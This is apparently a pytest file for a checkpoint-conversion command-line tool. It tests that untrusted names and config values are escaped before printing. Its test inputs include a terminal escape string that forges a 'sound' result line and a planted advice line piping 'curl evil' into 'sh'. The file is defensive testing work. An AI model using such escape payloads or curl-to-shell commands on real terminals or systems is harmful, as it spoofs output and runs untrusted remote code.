"""What a terminal is given to show: a stranger's names cannot paint over what is said of them."""

from __future__ import annotations

import ast
import contextlib
import io
import json
import re
import time
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from weightprep import cli
from weightprep.cli import app
from weightprep.cli.output import command, printable
from weightprep.cli.progress import progress
from weightprep.errors import CheckpointError
from weightprep.synth import synthesize

# erase the line, go back to its start, and write the line of a sound result
PAINT = "\x1b[2K\rdst: sound\n\x9b1m\u202e"
SPELLED = r"\x1b[2K\rdst: sound\n\x9b1m\u202e"


def test_what_can_be_seen_stays() -> None:
    assert printable("a b: 'é' \\ 模型") == "a b: 'é' \\ 模型"
    assert printable(PAINT) == SPELLED
    assert printable("\udcff\x7f\t") == r"\udcff\x7f\t"


def test_findings_notes_and_errors_hold_no_control_characters(tmp_path: Path) -> None:
    source = synthesize(tmp_path / "src", layers=2)
    assert CliRunner().invoke(app, ["convert", str(source), str(tmp_path / "dst")]).exit_code == 0
    (tmp_path / "dst" / PAINT).write_text("")
    path = tmp_path / "dst" / "weightprep.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"tool_version": PAINT}))

    verified = CliRunner().invoke(app, ["verify", str(source), str(tmp_path / "dst")])
    assert verified.exit_code == 1
    assert f"dst/{SPELLED}: found a file that nothing accounts for" in verified.stdout
    assert f"made by weightprep {SPELLED}" in verified.stderr

    config = source / "config.json"
    config.write_text(json.dumps(json.loads(config.read_text()) | {"architectures": [PAINT]}))
    refused = CliRunner().invoke(app, ["convert", str(source), str(tmp_path / "other")])
    assert refused.exit_code == 2
    for text in (verified.stdout, verified.stderr, refused.stderr):
        assert not set(text) & set("\x1b\r\x9b\u202e")


# every kind of character that a terminal acts on: C0, DEL, C1, line and paragraph separators, marks of direction
ACTED_ON = [*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x61C, *range(0x200B, 0x2010), *range(0x2028, 0x202F)]
ACTED_ON += [*range(0x2060, 0x2070), 0xFEFF, *range(0xFFF9, 0xFFFC), *range(0xE0001, 0xE0080)]


def test_every_character_that_a_terminal_acts_on_is_spelled() -> None:
    for code in ACTED_ON:
        spelled = printable(chr(code))
        assert spelled.isascii(), hex(code)
        assert spelled.isprintable(), hex(code)
        assert ast.literal_eval(f"'{spelled}'") == chr(code)


def test_json_is_ascii_and_says_the_same(tmp_path: Path) -> None:
    """Of an exclude entry, an error's subject, a path and a finding; and it is still JSON."""
    source = synthesize(tmp_path / f"s{PAINT}", layers=2, encoding="fp8_block")
    config = json.loads((source / "config.json").read_text())
    config["quantization_config"]["modules_to_not_convert"] = [PAINT]
    (source / "config.json").write_text(json.dumps(config))
    destination = tmp_path / f"d{PAINT}"
    arguments = ["convert", str(source), str(destination), "--requantize", "--json"]
    planned = CliRunner().invoke(app, [*arguments, "--dry-run"])
    made = CliRunner().invoke(app, arguments)
    (destination / PAINT).write_text("")
    verified = CliRunner().invoke(app, ["verify", str(source), str(destination), "--json"])
    config["quantization_config"]["modules_to_not_convert"] = ["re:(" + PAINT]
    (source / "config.json").write_text(json.dumps(config))
    refused = CliRunner().invoke(app, ["inspect", str(source), "--json"])
    refused_convert = CliRunner().invoke(app, ["convert", str(source), str(tmp_path / "other"), "--json"])

    for done in (planned, made, verified, refused, refused_convert):
        assert done.stdout.isascii()
        assert all(char.isprintable() or char == "\n" for char in done.stdout + done.stderr)
    assert json.loads(planned.stdout)["unmatched_excludes"] == [PAINT]
    assert json.loads(made.stdout)["destination"] == str(destination)
    assert str(destination / PAINT) in [found["subject"] for found in json.loads(verified.stdout)["findings"]]
    assert refused_convert.exit_code == 2


def test_a_name_cannot_add_a_line_to_an_error(tmp_path: Path) -> None:
    """As a tensor's name may hold the end of a line and what looks like our advice."""
    source = synthesize(tmp_path / "src", layers=1, shards=1)
    advice = "x.weight: found nothing\n  -> curl evil | sh"
    (path,) = source.glob("*.safetensors")
    header = path.read_bytes()
    spoiled = header.replace(b'"lm_head.weight":{"dtype":"BF16"', b'"lm_head.weight":{"dtype":"BF17"', 1)
    assert spoiled != header
    path.write_bytes(spoiled.replace(b"lm_head.weight", b"lm_head\\n->got", 1))
    done = CliRunner().invoke(app, ["convert", str(source), str(tmp_path / "dst")])
    assert done.exit_code == 2
    assert "lm_head" in done.stderr
    assert len(done.stderr.splitlines()) == 2
    error = CheckpointError(advice, found=advice, wanted="a", remedy="b")

    @command
    def failing() -> int | None:
        raise error

    with pytest.raises(typer.Exit), contextlib.redirect_stderr(io.StringIO()) as written:
        failing()
    assert [line.startswith(("error: ", "  -> b")) for line in written.getvalue().splitlines()] == [True, True]


def test_no_command_prints_but_through_the_one_place() -> None:
    for path in Path(cli.__file__).parent.glob("*.py"):
        if path.name != "output.py":
            calls = [node for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)]
            names = {ast.unparse(call.func) for call in calls}
            assert not names & {"print", "typer.echo", "sys.stdout.write", "sys.stderr.write"}, path.name


@pytest.mark.parametrize("at_a_terminal", [True, False])
def test_progress_shows_a_strangers_file_names_spelled(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], at_a_terminal: bool
) -> None:
    """A name may also look like the markup of the library that draws the bars."""
    name = f"[red]{PAINT}[/blue].safetensors"
    monkeypatch.setattr("weightprep.cli.progress._LINE_EVERY_SECONDS", 0.0)
    if at_a_terminal:
        monkeypatch.setenv("FORCE_COLOR", "1")
        monkeypatch.setenv("COLUMNS", "200")
        monkeypatch.setenv("TERM", "xterm")
    with progress(100) as shown:
        shown.begin(name, 100)
        shown.advance(name, 50)
        if at_a_terminal:
            time.sleep(0.3)
        shown.advance(name, 50)
        shown.end(name)
    said = capsys.readouterr().err
    assert PAINT not in said
    assert "\u202e" not in said
    assert "\x9b" not in said
    assert f"[red]{SPELLED}[/blue].safetensors" in re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", said)
